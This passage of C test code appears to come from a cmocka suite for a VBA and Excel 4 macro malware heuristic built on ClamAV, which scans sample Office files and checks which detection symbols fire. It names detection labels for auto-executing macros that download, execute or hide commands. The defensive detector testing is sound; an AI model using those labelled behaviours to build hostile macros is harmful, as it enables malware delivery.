    size_t files = 0, with = 0;
    int bad = 0;
    printf("    %-66s %4s  %s\n", "file", "mods", "symbols");
    while (fgets(line, sizeof(line), tsv)) {
        char *save = NULL, *set = strtok_r(line, "\t\n", &save),
             *rel = strtok_r(NULL, "\t\n", &save);
        strtok_r(NULL, "\t\n", &save), strtok_r(NULL, "\t\n", &save);
        char *notable = strtok_r(NULL, "\t\n", &save);
        if (!set || !rel || !notable || !wanted(set, rel, notable))
            continue;
        char *path = xasprintf("%s/%s/%s", CORPUS, set, rel);
        MODS s = {.n = 0};
        if (scan_file(e, path, &s)) {
            files++;
            HITS *h = hits_new();
            HEUR_CTX c = ctx(h, NULL);
            heur_vba(&c, (const char *const *)s.src, s.len, s.n);
            BUF *got = buf_new(64);
            symbols(h, got);
            printf("    %-66s %4zu  %s\n", path + strlen(CORPUS) + 1, s.n,
                   s.n ? got->data : "(no modules: encrypted or not extracted)");
            if (s.n) {
                with++;
                bad += check_list(h, "VBA_MACRO_PRESENT", true, rel);
                if (strcmp(set, "office-xlsxwriter-vba") == 0)
                    bad += check_list(h,
                                      "VBA_AUTOEXEC_EXECUTE VBA_AUTOEXEC_WRITE "
                                      "VBA_AUTOEXEC_DOWNLOAD VBA_HIDDEN_COMMAND",
                                      false, rel);
            }
            buf_free(got);
            hits_free(h);
        }
        mods_free(&s);
        free(path);
    }
    fclose(tsv);
    clamav_free(e);
    printf("    %zu files, %zu with modules\n", files, with);
    assert_int_equal(bad, 0);
    if (with == 0)
        skip();
}

/* test_corpus_xlm - oletools' Excel 4 samples: raw bytes and every layer through heur_xlm.
 * They hold ALERT() and HALT() under Auto_Open (checked with strings and a BIFF dump), so
 * Auto_Open must be found and EXEC / CALL must not. */
static void test_corpus_xlm(void **state)
{
    (void)state;
    glob_t g;
    if (!corpus_present() ||
        glob(CORPUS "/oletools/test-data/excel4-macros/excel4*", 0, NULL, &g) != 0)
        skip();
    char dir[] = "/tmp/fm-heur-xlm-XXXXXX";
    CLAMAV *e = engine_load(dir);
    int bad = 0;
    for (size_t i = 0; i < g.gl_pathc; i++) {
        MODS s = {.xlm = hits_new()};
        assert_true(scan_file(e, g.gl_pathv[i], &s));
        BUF *got = buf_new(64);
        symbols(s.xlm, got);
        printf("    %-60s %s\n", g.gl_pathv[i] + strlen(CORPUS) + 1, got->data);
        const char *rel = g.gl_pathv[i];
        bad += check_list(s.xlm, "XLM_AUTO_OPEN", true, rel);
        bad += check_list(s.xlm, "XLM_EXEC XLM_CALL_REGISTER XLM_DOWNLOAD", false, rel);
        buf_free(got);
        hits_free(s.xlm);
        mods_free(&s);
    }
    clamav_free(e);
    globfree(&g);
    assert_int_equal(bad, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases),      cmocka_unit_test(test_details),
        cmocka_unit_test(test_decode),     cmocka_unit_test(test_emit_rules),
        cmocka_unit_test(test_hostile),    cmocka_unit_test(test_xlm),
        cmocka_unit_test(test_corpus_vba), cmocka_unit_test(test_corpus_xlm),
    };
    return cmocka_run_group_tests_name("heur_vba", tests, NULL, NULL);
}
